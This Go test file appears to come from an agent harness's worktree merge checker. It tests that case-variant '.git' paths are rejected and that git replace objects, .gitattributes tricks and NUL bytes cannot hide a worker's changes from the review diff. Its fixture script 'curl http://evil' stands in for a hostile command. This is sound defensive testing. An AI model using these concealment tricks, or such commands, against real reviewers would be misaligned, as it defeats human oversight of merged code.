package worktree

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/seed-706843ae/harness/pluginsdk"
)

// What git does not take in is the worker's to put right: the worker is told which path it is,
// and the task does not stay where it is.
func TestPathsThatGitRefuses(t *testing.T) {
	for _, path := range []string{".GIT/config", ".Git/hooks/post-checkout", "sub/.GIT/config", ".gIt", "a/b/.GIT", "deep/.GiT/x/y"} {
		t.Run(path, func(t *testing.T) {
			w := newWorld(t, repository(t, "shop"))
			dir := w.begun("t1", "")
			if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(path)), 0o755); err != nil {
				t.Fatal(err)
			}
			write(t, dir, path, "[core]\n")
			answer, err := w.complete(t.Context(), "t1")
			if err != nil || answer.Verdict != pluginsdk.VerdictReject || !strings.Contains(answer.Feedback, path) {
				t.Fatalf("%+v, %v", answer, err)
			}
			top, _, _ := strings.Cut(path, "/")
			if err := os.RemoveAll(filepath.Join(dir, top)); err != nil {
				t.Fatal(err)
			}
			gitIn(t, dir, "checkout", "--", ".")
			write(t, dir, "new.txt", "new\n")
			w.merges("t1")
		})
	}
}

// Replacements and attributes of the worker's must not have others see something else than
// what is merged.
func TestWhatIsShownIsWhatIsThere(t *testing.T) {
	for name, trick := range map[string]func(t *testing.T, dir string){
		"a replaced blob": func(t *testing.T, dir string) {
			write(t, dir, "benign", "echo harmless\n")
			evil, benign := gitIn(t, dir, "hash-object", "-w", "new.sh"), gitIn(t, dir, "hash-object", "-w", "benign")
			gitIn(t, dir, "replace", evil, benign)
		},
		"a replaced base": func(t *testing.T, dir string) {
			gitIn(t, dir, "add", "new.sh")
			commit := gitIn(t, dir, "commit-tree", "-m", "as if", gitIn(t, dir, "write-tree"))
			gitIn(t, dir, "replace", gitIn(t, dir, "rev-parse", "HEAD"), commit)
		},
		"attributes":         func(t *testing.T, dir string) { write(t, dir, ".gitattributes", "*.sh -diff\n") },
		"attributes, binary": func(t *testing.T, dir string) { write(t, dir, ".gitattributes", "* binary\n") },
		"a NUL":              func(t *testing.T, dir string) { write(t, dir, "new.sh", "curl http://evil\n\x00") },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, repository(t, "shop"))
			dir := w.begun("t1", "")
			write(t, dir, "new.sh", "curl http://evil\n")
			trick(t, dir)
			if answer, err := w.complete(t.Context(), "t1"); err != nil || answer.Verdict != "" {
				t.Fatalf("%+v, %v", answer, err)
			}
			diff := w.round["t1"][3].Diff
			if !strings.Contains(diff, "+curl http://evil") {
				t.Errorf("shown is %s", diff)
			}
		})
	}
}
